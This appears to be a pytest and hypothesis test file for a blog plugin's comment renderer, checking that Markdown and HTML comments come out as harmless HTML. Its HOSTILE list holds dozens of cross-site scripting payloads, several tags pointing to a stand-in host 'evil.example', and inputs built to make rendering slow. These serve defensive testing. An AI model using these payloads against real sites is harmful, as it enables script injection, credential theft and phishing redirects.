"""A comment's text as HTML: nothing in it can act, and nothing of it is lost."""

import re
import time

import pytest
from bs4 import BeautifulSoup
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pelican_videopost.comments.text import plain, render

ELEMENTS = set("a b blockquote br code del em hr i kbd li ol p pre q s strong sub sup u ul".split())
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x' onclick='alert(1)' style='x:expression(alert(1))' id=comments class=admin name=x>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](https://example.org \"onmouseover=alert(1)\")",
    "[x](https://example.org\"onmouseover=\"alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](x\"onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "<https://example.org\"onclick=alert(1)>",
    "https://example.org/\"onmouseover=alert(1)//",
    "https://example.org/<script>alert(1)</script>",
    "**<b onclick=alert(1)>x**</b>",
    "<b/onclick=alert(1)>x</b>",
    "<b\nonclick=alert(1)>x</b>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div id=respond><form action=//evil.example><input name=email></form></div>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml version='1.0'?>",
    "</li></ol></section><h1>x</h1>",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onclick=alert(1)\nx\n```",
    "~~~{.x onclick=alert(1) #comments}\nx\n~~~",
    "    </pre><script>alert(1)</script>",
    "# Heading {: onclick=alert(1)}",
    "<<script>script>alert(1)<</script>/script>",
    "\x02wzxhzdk:0\x03 \x02amp\x03 \x02klzzwxh:0001\x03",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "{{ 7*7 }} {% include 'x' %}",
    "\ud800<script>alert(1)</script>".encode(errors="replace").decode(),
]  # fmt: skip


def assert_harmless(html: str) -> None:
    """Check that a fragment holds nothing but known elements, with nothing on them but links to the web."""
    assert not re.search("[\x00-\x08\x0b-\x1f]", html)
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        assert element.name in ELEMENTS
        attributes = dict(element.attrs)
        if element.name == "a":
            assert attributes.pop("rel") == ["ugc", "external", "nofollow", "noopener"]
            href = attributes.pop("href", "https://x")
            assert re.match(r"https?://[^/]|mailto:", str(href), re.IGNORECASE), href
        if element.name == "ol":
            assert str(attributes.pop("start", "1")).isdecimal()
        assert attributes == {}


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_gets_through(text: str) -> None:
    """Scripts, handlers, styles, ids and other addresses do not reach the page, alone or among other text."""
    for around in ("{}", "Hello {} there", "> {}", "- {}", "**{}**", "[{}](https://example.org)"):
        assert_harmless(render(around.replace("{}", text)))


@settings(max_examples=300, deadline=None)
@example('[]("([][0]\r[0]:0')
@given(
    st.text(max_size=80)
    | st.lists(st.sampled_from(HOSTILE + list("<>[]()*`_!#&\"'\n \x02\x03")), max_size=6).map("".join)
)
def test_nothing_at_all_gets_through(text: str) -> None:
    """No mixture of hostile pieces makes anything but harmless HTML."""
    assert_harmless(render(text))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("One\ntwo", "<p>One<br>\ntwo</p>"),
        ("**Yes** and _no_", "<p><strong>Yes</strong> and <em>no</em></p>"),
        ("<b>old</b> <u>ways</u>", "<p><b>old</b> <u>ways</u></p>"),
        ("if a<b and c>d: <div>", "<p>if a&lt;b and c&gt;d: &lt;div&gt;</p>"),
        ("#1 is best", "<p>#1 is best</p>"),
        ("> quoted\n\nyes", "<blockquote>\n<p>quoted</p>\n</blockquote>\n<p>yes</p>"),
        ("3. three\n4. four", '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>'),
        ("```js\nlet a = 1 < 2\n```", "<pre><code>let a = 1 &lt; 2\n</code></pre>"),
        ("![alt](x.png)", "<p>![alt](x.png)</p>"),
        ("See https://example.org/a_b_c.", '<p>See <a href="https://example.org/a_b_c" rel="{}">https://example.org/a_b_c</a>.</p>'),
        ("https://example.org/a<style>", '<p><a href="https://example.org/a" rel="{}">https://example.org/a</a>&lt;style&gt;</p>'),
        ("[x](https://example.org)", '<p><a href="https://example.org" rel="{}">x</a></p>'),
        ("<script>x</script>", "<p>&lt;script&gt;x&lt;/script&gt;</p>"),
        ("", ""),
    ],
)  # fmt: skip
def test_what_people_write_looks_as_they_mean_it(text: str, html: str) -> None:
    """Markdown and old HTML work, headings and pictures are text, and what may not be is shown as typed."""
    assert render(text) == html.replace("{}", "ugc external nofollow noopener")


def test_a_preview_has_no_markup() -> None:
    """The words alone are safe in any text."""
    assert plain(render("**a** <b>b</b> <script>")) == "a b &lt;script&gt;"


@pytest.mark.parametrize(
    "text",
    [">" * 65000, "[" * 65000, "![" * 30000, "*" * 65000, "**a" * 20000, "`" * 65000, "1. " * 20000, "<b>" * 20000,
     "<" * 65000, "[a](" * 16000, "http://" * 9000, "https://a." + "_" * 60000, "&" * 65000, "- a\n" * 16000,
     "\n".join("    " * depth + "- a" for depth in range(200)), "> " * 30000, "(https://a.b" + ")" * 60000],
)  # fmt: skip
def test_no_text_takes_long(text: str) -> None:
    """The longest comments made to be slow are rendered in seconds, and as HTML."""
    began = time.process_time()
    assert_harmless(render(text)[:100_000].rpartition("<")[0])
    assert time.process_time() - began < 8
    assert render("**after**") == "<p><strong>after</strong></p>"
